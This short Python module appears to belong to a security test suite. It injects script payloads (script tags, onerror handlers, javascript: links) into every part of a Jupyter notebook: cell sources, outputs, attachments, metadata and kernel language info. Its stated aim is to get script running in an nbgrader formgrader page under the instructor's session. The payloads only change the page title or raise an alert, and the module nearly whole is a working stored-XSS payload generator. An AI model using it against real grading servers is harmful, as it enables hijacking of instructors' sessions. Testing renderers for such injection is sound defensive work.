"""Puts scripts into every part of a notebook that ends up in a page: sources, outputs, attachments, metadata, kernel."""

STAGE = "nt_xent"
GAIN = "a script in formgrader, with the instructor's session"
KIND = "notebook"
REPORTED = ""

SCRIPT = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"


def tamper(notebook):
    shown = {"text/html": SCRIPT, "application/javascript": SCRIPT, "text/plain": SCRIPT, "image/svg+xml": SCRIPT}
    output = {"output_type": "display_data", "metadata": {"owned": SCRIPT}, "data": shown | {"image/png": f'"{SCRIPT}'}}
    code = {"cell_type": "code", "id": "c", "metadata": {}, "execution_count": 1, "source": SCRIPT, "outputs": [output]}
    text = f"{SCRIPT} [x](javascript:alert(1)) ![x](attachment:a)"
    prose = {"cell_type": "markdown", "id": "m", "metadata": {"owned": SCRIPT}, "source": text}
    prose["attachments"] = {"a": {"image/png": f'"{SCRIPT}', "text/html": SCRIPT}}
    notebook["cells"] += [code, prose]
    notebook["metadata"] |= {"language_info": {"name": SCRIPT, "pygments_lexer": SCRIPT}, "title": SCRIPT}
